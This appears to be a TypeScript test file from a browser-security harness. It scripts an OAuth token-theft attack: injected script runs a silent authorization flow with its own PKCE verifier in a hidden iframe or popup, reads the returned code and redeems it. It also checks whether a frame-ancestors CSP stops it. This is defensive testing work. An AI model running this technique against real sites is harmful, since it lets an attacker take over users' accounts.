// Attack X-19: tokens by a flow that the script starts itself (BBA §5.1.3).
import { createHash, randomBytes } from 'node:crypto'
import * as step from '../browser/fixtures.ts'
import { attack, type Stage } from './attack.ts'
import { codesIn, redeem } from './codes.ts'
import type { Outcome } from './row.ts'

const { expect } = step

const random = () => randomBytes(32).toString('base64url')

/** The address of an authorization request with a verifier of the attacker's own. */
function ownRequest({ op, app }: Stage, verifier: string): string {
  const challenge = createHash('sha256').update(verifier).digest('base64url')
  const parameters = {
    client_id: 'app',
    redirect_uri: `${app.origin}/`,
    response_type: 'code',
    scope: 'openid profile email',
    prompt: 'none',
    state: random(),
    nonce: random(),
    code_challenge: challenge,
    code_challenge_method: 'S256',
  }
  return `${op.urlOf('authorization')}?${new URLSearchParams(parameters)}`
}

/** Opens a hidden frame in which no script runs, and reads where it ends up. */
function readFrame(tab: step.Tab, url: string): Promise<string> {
  return tab.evaluate(
    (address) =>
      new Promise<string>((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { hidden: true, src: address })
        frame.setAttribute('sandbox', 'allow-same-origin')
        frame.addEventListener('load', () => {
          try {
            resolve(frame.contentWindow?.location.href ?? '')
          } catch (error) {
            resolve(String(error))
          }
        })
        document.body.append(frame)
      }),
    url,
  )
}

async function flowInFrame(stage: Stage): Promise<Outcome> {
  const { tab } = stage
  expect(await step.openSignedIn(tab)).toMatchObject({ status: 'signed-in' })
  const verifier = random()
  const address = await readFrame(tab, ownRequest(stage, verifier))
  const [code] = codesIn([address])
  return code === undefined ? 'stopped' : redeem(stage, { code, verifier })
}

attack({
  id: 'X-19',
  name: 'new tokens by a silent flow of its own in a hidden frame',
  timings: ['late'],
  expected: 'not stopped',
  run: flowInFrame,
  control: flowInFrame,
})

const noFrames = "default-src 'self'; connect-src *; frame-src *; frame-ancestors 'none'"

attack({
  id: 'X-19',
  name: "new tokens by a silent flow of its own in a hidden frame, callback with frame-ancestors 'none'",
  timings: ['late'],
  expected: 'stopped',
  run(stage) {
    stage.app.headers['content-security-policy'] = noFrames
    return flowInFrame(stage)
  },
  control: flowInFrame,
})

attack({
  id: 'X-19',
  name: "new tokens by a flow of its own in a popup, callback with frame-ancestors 'none'",
  timings: ['late'],
  expected: 'not stopped',
  async run(stage) {
    const { app, tab } = stage
    app.headers['content-security-policy'] = noFrames
    expect(await step.openSignedIn(tab)).toMatchObject({ status: 'signed-in' })
    const verifier = random()
    const popup = await tab.popup(() =>
      tab.evaluate(
        (url) => void Object.assign(window, { stolen: window.open(url) }),
        ownRequest(stage, verifier),
      ),
    )
    await popup.waitForURL(`${app.origin}/`)
    // The browser itself remembers with what address the popup was loaded.
    const address = await tab.evaluate(() => {
      const { stolen } = window as unknown as { stolen: Window & typeof globalThis }
      return stolen.performance
        .getEntriesByType('navigation')
        .map(({ name }) => name)
        .join()
    })
    await popup.close()
    const [code] = codesIn([address])
    return code === undefined ? 'stopped' : redeem(stage, { code, verifier })
  },
  control: flowInFrame,
})
